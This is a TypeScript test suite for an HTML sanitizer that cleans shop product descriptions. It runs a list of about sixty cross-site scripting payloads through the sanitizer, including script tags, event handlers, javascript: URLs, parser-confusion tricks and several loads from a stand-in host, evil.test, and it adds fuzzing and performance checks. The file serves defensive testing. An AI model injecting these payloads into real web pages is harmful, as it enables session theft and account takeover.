import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { JSDOM } from 'jsdom'
import { describe, expect, test } from 'vitest'
import { sanitizeHtml } from './sanitizeHtml.ts'

const tags =
  /^(p|br|hr|h[234]|strong|b|em|i|u|s|small|sub|sup|[uo]l|li|d[ldt]|blockquote|figure|figcaption|div|section|span|table|caption|thead|tbody|colgroup|tr|th|td|a|img)$/
const { document } = new JSDOM('').window

/** What a browser makes of it: every element and attribute that is not allowed, every address that is not plain. */
function dangers(html: string): string[] {
  const place = document.createElement('div')
  place.innerHTML = html
  return [...place.querySelectorAll('*')].flatMap((element) => [
    ...(tags.test(element.localName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`<${element.localName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (
        !['href', 'title', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'colspan', 'rowspan', 'start'].includes(
          name,
        )
      )
        return [`@${name}`]
      if (name === 'href') return /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\]))/i.test(value) ? [] : [`href=${value}`]
      if (name === 'src') return /^\/images\/[\w-]+\.\w+$/.test(value) ? [] : [`src=${value}`]
      return []
    }),
  ])
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script',
  '<script >alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/a.webp" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src=" /images/../pg/sandbox">',
  '<img srcset="x 1x" src="/images/a.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href=\'"onmouseover="alert(1)\'>x</a>',
  '<a title="a" onmouseover=alert(1) title="b">x</a>',
  '<a href="#" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=x>',
  '<embed src=x>',
  '<style>@import "//evil.test"</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content=0>',
  '<form action=//evil.test><input name=p><button>x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)>?>',
  '</p/<img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>">x',
  '"><script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<%00script>alert(1)</script>',
  '<a href="x"onclick=alert(1)>x</a>',
  '<table><td><script>x</script><caption><a href=javascript:1>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a><a><a href=javascript:1>x',
]

describe('상품 설명', () => {
  test.each(attacks)('%s 에서 실행되거나 밖으로 나가는 것이 남지 않는다', (attack) => {
    expect(dangers(sanitizeHtml(attack))).toEqual([])
    expect(dangers(sanitizeHtml(`<p>앞</p>${attack}<p>뒤</p>`))).toEqual([])
  })

  test('어떤 글이 와도 허락한 것만 남고, 두 번 걸러도 같다', () => {
    const pieces = constantFrom(
      ...attacks,
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&#60;',
      '<!--',
      '-->',
      '</',
      '/>',
      '<p>',
      '</p>',
      '<b>',
      '<a href=',
      '<img src=',
      ' onerror=alert(1)',
      '글',
      '\u0000',
      '`',
    )
    const text = array(oneof(pieces, string({ maxLength: 5 })), { maxLength: 12 }).map((parts) => parts.join(''))
    assert(
      property(text, (html) => {
        const clean = sanitizeHtml(html)
        expect(dangers(clean)).toEqual([])
        expect(sanitizeHtml(clean)).toBe(clean)
      }),
      { numRuns: 2_000 },
    )
  })

  test('설명에 쓰는 것은 그대로 남는다', () => {
    const html =
      '<h2>두꺼운 매트</h2><p>집에서 <strong>조용히</strong> &amp; 편하게.<br>5 &lt; 6</p><ul><li>10mm</li></ul>' +
      '<p><img src="/images/a1.webp" alt="매트" width="720" height="720" loading="lazy"></p><table><tbody><tr><td colspan="2">표</td></tr></tbody></table>'
    expect(sanitizeHtml(html)).toBe(html)
    expect(sanitizeHtml('<a href="https://homefit.test/?a=1&amp;b=2">더 보기</a>')).toBe(
      '<a href="https://homefit.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow">더 보기</a>',
    )
    expect(sanitizeHtml('<font color=red><p class=x>글</font> <em>강조')).toBe('<p>글 <em>강조</em></p>')
    expect(sanitizeHtml('5 < 6 & 7 > 3')).toBe('5 &lt; 6 &amp; 7 &gt; 3')
  })

  test('아주 길고 깊어도 금방 끝난다', () => {
    const started = performance.now()
    for (const bomb of ['<p>', '<a href="', '<!--', '<script>', '&', '<a b=', "<p '", '<img src=x ', '</p '])
      sanitizeHtml(bomb.repeat(300_000))
    // two seconds when the work grows with the length, minutes when it grows with its square
    expect(performance.now() - started).toBeLessThan(40_000)
  })
})
